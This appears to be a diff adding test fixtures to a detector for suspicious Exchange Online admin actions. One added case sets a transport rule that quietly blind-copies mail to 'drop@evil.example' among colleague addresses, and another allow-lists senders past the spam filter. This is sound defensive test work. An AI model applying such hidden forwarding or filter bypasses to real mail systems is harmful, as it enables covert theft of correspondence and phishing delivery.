@@ -63,6 +63,28 @@ export const cases: readonly SignalCase[] = [
     ],
   },
   {
+    name: 'a rule hides where mail leaves to behind colleagues',
+    rows: [
+      did('New-TransportRule', {
+        Name: 'Copies',
+        BlindCopyTo: 'a@contoso.com;b@contoso.com;c@contoso.com;drop@evil.example',
+      }),
+    ],
+    known,
+    signs: says(gil.id, 'A', 'which sends mail to drop@evil.example, a@contoso.com, b@contoso.com and 1 more'),
+  },
+  {
+    name: 'more senders pass than a line names',
+    rows: [
+      did('Set-HostedContentFilterPolicy', {
+        Identity: 'Default',
+        AllowedSenders: 'a@x.example;b@x.example;c@x.example;d@x.example',
+      }),
+    ],
+    known,
+    signs: says('hostedcontentfilterpolicy default', 'B', 'c@x.example and 1 more may bypass it'),
+  },
+  {
     name: 'a rule copies mail to a colleague',
     rows: [did('Set-TransportRule', { Identity: 'Orders', BlindCopyTo: 'sales@contoso.com' })],
     known,
